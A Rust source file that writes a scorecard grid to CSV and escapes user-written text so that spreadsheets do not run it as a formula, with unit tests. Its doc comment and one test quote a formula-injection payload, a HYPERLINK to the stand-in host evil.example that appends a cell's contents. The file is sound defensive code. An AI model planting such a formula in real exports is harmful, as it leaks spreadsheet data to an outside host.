//! The scorecard grid as CSV, safe to open in a spreadsheet.
//!
//! Exists because a CSV export is read by Excel, LibreOffice and Google
//! Sheets, which run a cell that starts with `=`, `+`, `-` or `@` (and, in
//! some, a tab or carriage return) as a formula: a measurable named
//! `=HYPERLINK("https://evil.example/?"&A1,"Open")` would run in the
//! manager's spreadsheet. Text a user wrote (sections, names, owners, goals)
//! is prefixed with `'` when it starts so (OWASP's advice); the numbers
//! Tally computes are written as numbers, a negative one included.

use app::domain::scorecard::{ScorecardWeek, goal_text};

/// Quotes a field when it holds a separator, quote or line break.
fn field(text: &str) -> String {
    if text.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", text.replace('"', "\"\""))
    } else {
        text.to_owned()
    }
}

/// A field of text a user wrote: never read as a formula.
fn text(text: &str) -> String {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        field(&format!("'{text}"))
    } else {
        field(text)
    }
}

fn number(v: Option<f64>) -> String {
    v.map(|v| v.to_string()).unwrap_or_default()
}

fn line(out: &mut String, fields: &[String]) {
    out.push_str(&fields.join(","));
    out.push_str("\r\n");
}

/// The grid: one row per measurable, one column per week.
pub fn scorecard(week: &ScorecardWeek) -> String {
    let mut out = String::new();
    let mut head: Vec<String> = ["Section", "Measurable", "Owner", "Goal"]
        .into_iter()
        .map(text)
        .collect();
    head.extend(week.weeks.iter().map(|w| text(w)));
    head.push(text("Quarter average"));
    line(&mut out, &head);
    for section in &week.sections {
        for row in &section.rows {
            let goal = row
                .goal
                .as_ref()
                .map(|g| goal_text(g, row.unit, row.decimals))
                .unwrap_or_default();
            let mut fields = vec![
                text(&section.name),
                text(&row.name),
                text(row.owner.as_deref().unwrap_or_default()),
                text(&goal),
            ];
            fields.extend(row.weeks.iter().map(|c| number(c.value)));
            fields.push(number(row.quarter_average));
            line(&mut out, &fields);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_that_a_spreadsheet_would_run_is_prefixed() {
        assert_eq!(text("=1+1"), "'=1+1");
        assert_eq!(text("+44 sales"), "'+44 sales");
        assert_eq!(text("-draft"), "'-draft");
        assert_eq!(text("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(text("\tx"), "'\tx");
        assert_eq!(
            text(r#"=HYPERLINK("https://evil.example","x")"#),
            r#""'=HYPERLINK(""https://evil.example"",""x"")""#
        );
        assert_eq!(text("Dials"), "Dials");
        assert_eq!(text("a, b"), "\"a, b\"");
    }

    #[test]
    fn numbers_stay_numbers() {
        assert_eq!(number(Some(-3.5)), "-3.5");
        assert_eq!(number(None), "");
    }
}
